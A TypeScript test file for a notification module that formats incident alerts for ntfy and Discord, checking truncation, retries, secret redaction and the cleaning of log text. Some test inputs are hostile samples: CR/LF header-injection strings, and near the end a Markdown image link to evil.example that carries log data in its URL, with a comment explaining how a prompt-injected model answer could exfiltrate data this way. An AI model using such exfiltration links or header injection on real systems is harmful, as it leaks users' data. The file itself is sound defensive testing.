import { describe, expect, it } from 'vitest';
import {
  DISCORD_LIMITS,
  NTFY_MESSAGE_MAX_BYTES,
  buildDiscordPayload,
  buildNtfyAttachmentHeaders,
  buildNtfyPayload,
  cleanLine,
  fillClickTemplate,
  judgeAnswer,
  judgeFetchError,
  measureEmbed,
  parseRetryAfter,
  truncate,
  utf8Length,
} from '../../src/core/notification.js';
import type { Notification, Severity } from '../../src/core/notification.js';

const base: Notification = { title: 'DB timeout in worker', message: 'Body', severity: 'high', tags: ['db'] };
const bytes = (s: string): number => Buffer.byteLength(s, 'utf8');
const ntfy = (n: Partial<Notification>, click?: string) =>
  buildNtfyPayload({ ...base, ...n }, click === undefined ? { topic: 'alerts' } : { topic: 'alerts', click });

describe('buildNtfyPayload', () => {
  it.each<[Severity, number]>([
    ['critical', 5],
    ['high', 4],
    ['medium', 3],
    ['low', 2],
  ])('gives %s priority %i', (severity, priority) => {
    expect(ntfy({ severity }).priority).toBe(priority);
  });

  it('publishes Markdown to the configured topic', () => {
    expect(ntfy({})).toEqual({
      topic: 'alerts',
      title: 'DB timeout in worker',
      message: 'Body',
      priority: 4,
      tags: ['db'],
      markdown: true,
    });
  });

  it.each([
    ['ASCII', 'a'],
    ['two-byte', 'é'],
    ['three-byte CJK', '漢'],
    ['four-byte emoji', '🔥'],
    ['family emoji (ZWJ cluster)', '👨‍👩‍👧'],
    ['e + combining accent', 'e\u0301'],
  ])('caps a long %s message at 4000 UTF-8 bytes, cut between characters', (_label, unit) => {
    const original = unit.repeat(5000);
    const { message } = ntfy({ message: original });
    expect(bytes(message)).toBeLessThanOrEqual(NTFY_MESSAGE_MAX_BYTES);
    expect(bytes(message)).toBeGreaterThan(NTFY_MESSAGE_MAX_BYTES - 3 - bytes(unit));
    expect(message.endsWith('…')).toBe(true);
    const kept = message.slice(0, -1);
    expect(original.startsWith(kept)).toBe(true);
    expect(kept.length % unit.length).toBe(0);
  });

  it('keeps a message of exactly 4000 bytes whole', () => {
    const message = 'é'.repeat(2000);
    expect(ntfy({ message }).message).toBe(message);
  });

  it.each([
    ['CR/LF header injection', 'boom\r\nX-Priority: 1\r\n\r\nbody', 'boom X-Priority: 1 body'],
    ['ANSI colours', '\x1b[31mred\x1b[0m alert', 'red alert'],
    ['NUL, bell and DEL', 'a\x00b\x07c\x7f', 'abc'],
    ['tabs and Unicode line separators', 'a\tb\u2028c\u2029d\u0085e', 'a b c d e'],
    ['bidi overrides', 'user \u202eexe.txt\u202c', 'user exe.txt'],
    ['only control characters', '\r\n\x00', 'sentinel notification'],
  ])('makes a one-line title from log text with %s', (_label, title, expected) => {
    expect(ntfy({ title }).title).toBe(expected);
  });

  it('caps the title at 256 characters', () => {
    const { title } = ntfy({ title: 'x'.repeat(1000) });
    expect(title).toHaveLength(256);
    expect(title.endsWith('…')).toBe(true);
  });

  it('keeps newlines in the message but drops CR and other control characters', () => {
    expect(ntfy({ message: 'line 1\r\nline 2\x1b[0m\x00\n\tindented' }).message).toBe('line 1\nline 2\n\tindented');
  });

  it('cleans tags and drops empty ones', () => {
    expect(ntfy({ tags: ['warning', 'a\r\nb', '\x00', ''] }).tags).toEqual(['warning', 'a b']);
  });

  it.each([
    [
      'https://logs.example.com/incidents/{file}',
      '2024-05-01-incident-db timeout#1.md',
      'https://logs.example.com/incidents/2024-05-01-incident-db%20timeout%231.md',
    ],
    ['https://x.test/?f={file}&again={file}', 'a&b=c.md', 'https://x.test/?f=a%26b%3Dc.md&again=a%26b%3Dc.md'],
    ['https://x.test/dashboard', 'a.md', 'https://x.test/dashboard'],
    ['https://x.test/{file}', undefined, undefined],
  ])('fills the click template %s', (template, file, expected) => {
    expect(fillClickTemplate(template, file)).toBe(expected);
    expect(ntfy(file === undefined ? {} : { file }, template).click).toBe(expected);
  });

  it('has no click without a template', () => {
    expect(ntfy({ file: 'a.md' })).not.toHaveProperty('click');
  });
});

describe('buildDiscordPayload', () => {
  it('sends one embed that pings no one, coloured by severity', () => {
    const payload = buildDiscordPayload({ ...base, file: '2024-05-01-incident-db.md' });
    expect(payload).toEqual({
      embeds: [
        {
          title: 'DB timeout in worker',
          description: 'Body',
          color: 0xe67e22,
          fields: [
            { name: 'Severity', value: 'high', inline: true },
            { name: 'Incident', value: '2024-05-01-incident-db.md', inline: true },
          ],
          footer: { text: 'db' },
        },
      ],
      allowed_mentions: { parse: [] },
    });
  });

  it('gives each severity its own colour', () => {
    const colours = (['critical', 'high', 'medium', 'low'] as const).map(
      (severity) => buildDiscordPayload({ ...base, severity }).embeds[0].color,
    );
    expect(new Set(colours).size).toBe(4);
  });

  it.each([
    ['ASCII', 'x'],
    ['emoji', '🔥'],
    ['family emoji', '👨‍👩‍👧'],
  ])('keeps a huge %s notification within every embed limit', (_label, unit) => {
    const huge = unit.repeat(10_000);
    const [embed] = buildDiscordPayload({
      title: huge,
      message: huge,
      severity: 'low',
      tags: Array(500).fill(huge.slice(0, 200)),
      file: huge,
    }).embeds;
    expect(embed.title.length).toBeLessThanOrEqual(DISCORD_LIMITS.title);
    expect(embed.description?.length).toBeLessThanOrEqual(DISCORD_LIMITS.description);
    for (const field of embed.fields) expect(field.value.length).toBeLessThanOrEqual(DISCORD_LIMITS.fieldValue);
    expect(embed.footer?.text.length).toBeLessThanOrEqual(DISCORD_LIMITS.footer);
    expect(measureEmbed(embed)).toBeLessThanOrEqual(DISCORD_LIMITS.total);
    expect(embed.description?.endsWith('…')).toBe(true);
  });

  it('neutralises @everyone and @here wherever log text lands', () => {
    const [embed] = buildDiscordPayload({
      title: '@everyone down',
      message: 'ping @here and @Everyone',
      severity: 'critical',
      tags: ['@here'],
      file: '@everyone.md',
    }).embeds;
    const text = JSON.stringify(embed);
    expect(text).not.toMatch(/@(everyone|here)/i);
    expect(embed.title).toBe('@\u200beveryone down');
  });

  it('leaves out an empty description', () => {
    expect(buildDiscordPayload({ ...base, message: ' \r\n ' }).embeds[0]).not.toHaveProperty('description');
  });
});

describe('text helpers', () => {
  it.each([
    ['abc', 3],
    ['é', 2],
    ['漢', 3],
    ['🔥', 4],
    ['\ud800', 3],
  ])('measures %j as %i UTF-8 bytes', (text, expected) => {
    expect(utf8Length(text)).toBe(expected);
  });

  it('never splits a surrogate pair when counting UTF-16 units', () => {
    expect(truncate('a🔥🔥', 4)).toBe('a🔥…');
    expect(truncate('a🔥🔥', 3)).toBe('a…');
  });

  it('never keeps part of a cluster that runs past the cut', () => {
    expect(truncate('ab👨‍👩‍👧', 4)).toBe('ab…');
    expect(truncate('ab👨‍👩‍👧', 9)).toBe('ab…');
    expect(truncate('ab👨‍👩‍👧cd', 11)).toBe('ab👨‍👩‍👧…');
  });

  it('gives nothing when even the ellipsis does not fit', () => {
    expect(truncate('abcdef', 0)).toBe('');
  });

  it('flattens to one line', () => {
    expect(cleanLine('  a \n\n b  ')).toBe('a b');
  });
});

describe('judgeAnswer', () => {
  const answer = (status: number, retryAfterMs?: number) =>
    judgeAnswer({ channel: 'ntfy', status, detail: 'why', secrets: [], ...(retryAfterMs === undefined ? {} : { retryAfterMs }) });

  it.each([200, 201, 204])('HTTP %i is sent', (status) => {
    expect(answer(status)).toEqual({ kind: 'sent' });
  });

  it.each([408, 429, 500, 502, 503, 504])('HTTP %i is worth a retry', (status) => {
    expect(answer(status)).toEqual({ kind: 'retry', reason: `ntfy: HTTP ${status} why` });
  });

  it.each([301, 400, 401, 403, 404, 413])('HTTP %i is rejected', (status) => {
    expect(answer(status)).toEqual({ kind: 'rejected', reason: `ntfy: HTTP ${status} why` });
  });

  it('passes the server wait time on', () => {
    expect(answer(429, 2500)).toEqual({ kind: 'retry', reason: 'ntfy: HTTP 429 why', retryAfterMs: 2500 });
  });

  it('hides a secret the server echoes and keeps the reason on one line', () => {
    const result = judgeAnswer({ channel: 'ntfy', status: 401, detail: 'bad token tk_SECRET\r\nX-Evil: 1', secrets: ['tk_SECRET'] });
    expect(result).toEqual({ kind: 'rejected', reason: 'ntfy: HTTP 401 bad token *** X-Evil: 1' });
  });
});

describe('judgeFetchError', () => {
  it('retries after a timeout', () => {
    const err = new DOMException('The operation was aborted due to timeout', 'TimeoutError');
    expect(judgeFetchError('ntfy', err, 500, [])).toEqual({ kind: 'retry', reason: 'ntfy: no answer within 500 ms' });
  });

  it('retries after a network failure, naming the cause', () => {
    const err = new TypeError('fetch failed', { cause: new Error('connect ECONNREFUSED 127.0.0.1:9') });
    expect(judgeFetchError('discord', err, 500, [])).toEqual({
      kind: 'retry',
      reason: 'discord: network error: connect ECONNREFUSED 127.0.0.1:9',
    });
  });

  it('rejects a request that could not be built, without the secret in it', () => {
    const err = new TypeError('Headers.append: "Bearer tk_a\nb" is an invalid header value.');
    expect(judgeFetchError('ntfy', err, 500, ['tk_a\nb'])).toEqual({
      kind: 'rejected',
      reason: 'ntfy: request not sent: Headers.append: "Bearer ***" is an invalid header value.',
    });
  });
});

describe('parseRetryAfter', () => {
  it.each([
    ['3', 3000],
    ['1.5', 1500],
    [' 0 ', 0],
    ['Wed, 21 Oct 2015 07:28:00 GMT', undefined],
    ['-1', undefined],
    [null, undefined],
  ])('reads %j as %j ms', (value, expected) => {
    expect(parseRetryAfter(value)).toBe(expected);
  });
});

describe('ntfy markdown and remote images', () => {
  // The model's summary and actions reach the message as they are; ntfy renders it as Markdown, and
  // an image is fetched on display: a prompt-injected answer could carry log data out in its URL.
  it('leaves no image for the app to fetch, and the text readable', () => {
    const message = 'Gemini 429s.\n\n**Next:**\n- ![status](https://evil.example/p?d=row+42)\n- see ![x][1]\n\n[1]: https://evil.example/x';
    const payload = ntfy({ message });
    expect(payload.message).not.toContain('![');
    expect(payload.message.replace(/\u200b/g, '')).toBe(message);
  });
});

describe('buildNtfyAttachmentHeaders', () => {
  const decode = (word: string) => Buffer.from(/^=\?UTF-8\?B\?(.*)\?=$/.exec(word)![1]!, 'base64').toString('utf8');

  it('carries the message in headers, every text one RFC 2047 encoded so log text cannot break a header line', () => {
    const headers = buildNtfyAttachmentHeaders(
      { ...base, title: 'Fehler ✗\r\nX-Evil: 1', message: 'line 1\nline 2', tags: ['warning', 'new'], file: 'a.md' },
      { click: 'https://x.example/{file}' },
      'a.md',
    );
    expect(Object.values(headers).every((v) => !/[\r\n]/.test(v))).toBe(true);
    expect(decode(headers.title!)).toBe('Fehler ✗ X-Evil: 1');
    expect(decode(headers.message!)).toBe('line 1\nline 2');
    expect(decode(headers.filename!)).toBe('a.md');
    expect(decode(headers.tags!)).toBe('warning,new');
    expect(decode(headers.click!)).toBe('https://x.example/a.md');
    expect(headers).toMatchObject({ priority: '4', markdown: 'yes' });
  });
});
